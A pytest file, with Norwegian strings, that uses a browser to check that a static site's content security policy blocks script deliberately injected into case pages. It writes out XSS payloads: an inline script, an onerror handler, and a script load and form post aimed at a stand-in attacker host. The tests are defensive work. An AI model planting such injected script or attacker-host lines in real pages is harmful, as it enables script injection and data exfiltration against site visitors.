"""The content security policy as a second line of defence (issue 13), in real Chromium.

Editors' Markdown is sanitised (nh3) and every value from YAML is escaped; tests/test_injection.py
tests that. Here escaping is assumed to have failed: a build hook puts a script into a case page's
HTML after sanitising, the way a bug would, and the page is built as usual (with its policy, made
by the real hook). In the browser the injected code must not run, and the page must report the
violation; the site's own scripts (Material's, the search) must still run.

That every page type and state breaks the policy 0 times is tested with the other checks of each
page in test_a11y.py (test_content_security_policy_holds_and_is_never_violated).
"""
from __future__ import annotations

import logging

import pytest

from ..conftest import FIXTURE_DATA, build, make_project
from .conftest import CSP_RECORDER, CSP_REPORT

pytestmark = pytest.mark.browser

# What an editor's text could carry if escaping ever failed: an inline script, an event handler, a
# script from another host, a <base> that would redirect the page's relative script addresses, and
# a form that posts elsewhere.
INJECTED = """
<p id="injisert-avsnitt">Vanlig tekst før det injiserte.</p>
<script>document.documentElement.dataset.injisert = "skript";</script>
<img src="data:," alt="" onerror="document.documentElement.dataset.injisert = 'hendelse'">
<script src="https://angriper.example/x.js"></script>
<form id="injisert-skjema" action="https://angriper.example/samle" method="post"><button>Send</button></form>
"""

HOOK = f'''
"""Test-only hook: puts a script into case pages after sanitising, as if escaping had failed."""
INJECTED = {INJECTED!r}


def on_page_content(html, page, config, files):
    if page.file.src_uri.startswith("kommuner/") and not page.file.src_uri.endswith("index.md"):
        return html + INJECTED
    return html
'''


@pytest.fixture(scope="module")
def injected_site(tmp_path_factory):
    """The fixture site with the injection hook (not strict: the hook's warnings are expected)."""
    project = make_project(tmp_path_factory.mktemp("csp-injisert"), FIXTURE_DATA)
    (project / "injiser.py").write_text(HOOK, encoding="utf-8")
    yml = project / "mkdocs.yml"
    text = yml.read_text(encoding="utf-8")
    assert "strict: true\n" in text and "hooks:\n" in text
    yml.write_text(text.replace("strict: true\n", "strict: false\n").replace("hooks:\n", "hooks:\n  - injiser.py\n"),
                   encoding="utf-8")
    warnings: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: warnings.append(record.getMessage())
    logger = logging.getLogger("mkdocs.hooks.a11y")
    logger.addHandler(handler)
    try:
        site = build(project)
    finally:
        logger.removeHandler(handler)
    return site, warnings


@pytest.fixture(scope="module")
def injected_url(injected_site):
    import sys

    sys.path.insert(0, str(__import__("pathlib").Path(__file__).resolve().parents[2] / "scripts"))
    from pages_server import serve

    with serve(injected_site[0]) as url:
        yield url


def case_page(site) -> str:
    pages = sorted(p.parent.name for p in (site / "kommuner").glob("*/index.html"))
    assert pages, "fixturen har ingen kommunesider"
    return f"kommuner/{pages[0]}/"


def test_the_build_warns_about_the_injected_script(injected_site):
    site, warnings = injected_site
    html = (site / case_page(site) / "index.html").read_text(encoding="utf-8")
    assert 'dataset.injisert = "skript"' in html, "skriptet kom ikke inn i siden; testen prøver ingenting"
    assert any("innebygd skript som ingen mal har skrevet" in w and "kommuner/" in w for w in warnings)


def test_an_injected_script_is_blocked_and_reported(browser, injected_site, injected_url):
    site, _ = injected_site
    ctx = browser.new_context(locale="nb-NO")
    ctx.add_init_script(CSP_RECORDER)
    # Chromium announces the blocked script as a request, then fails it before it leaves the browser.
    answered: list[str] = []
    failed: dict[str, str] = {}
    ctx.on("requestfinished", lambda r: answered.append(r.url))
    ctx.on("requestfailed", lambda r: failed.__setitem__(r.url, r.failure or ""))
    try:
        page = ctx.new_page()
        page.goto(injected_url + case_page(site), wait_until="load")
        page.locator("#injisert-avsnitt").wait_for()
        # The site's own scripts ran: the search button is shown by sok.js, and Material's bundle
        # replaces the no-js class on <html>.
        page.locator("[data-ks-sok-apne]").wait_for(state="visible")
        assert "no-js" not in (page.evaluate("() => document.documentElement.className") or "")
        # The injected form may not send anywhere but the site (submitted as a click would).
        page.evaluate("() => document.getElementById('injisert-skjema').requestSubmit()")
        page.wait_for_function("() => window.__kulturskoleCsp.some(v => v.startsWith('form-action'))")
        report = page.evaluate(CSP_REPORT)
        injected = page.evaluate("() => document.documentElement.dataset.injisert || null")
        url_after = page.url
    finally:
        ctx.close()
    assert injected is None, f"det injiserte skriptet kjørte ({injected})"
    violations = report["violations"]
    assert any(v.startswith("script-src-elem blokkerte inline") for v in violations), violations
    assert any(v.startswith("script-src-attr blokkerte inline") for v in violations), violations
    assert any(v.startswith("script-src-elem blokkerte https://angriper.example/x.js") for v in violations), violations
    assert any(v.startswith("form-action blokkerte https://angriper.example/samle") for v in violations), violations
    assert not any("angriper.example" in u for u in answered), "nettleseren fikk svar fra den fremmede verten"
    assert {u: why for u, why in failed.items() if "angriper.example" in u} == {"https://angriper.example/x.js": "csp"}
    assert "angriper.example" not in url_after
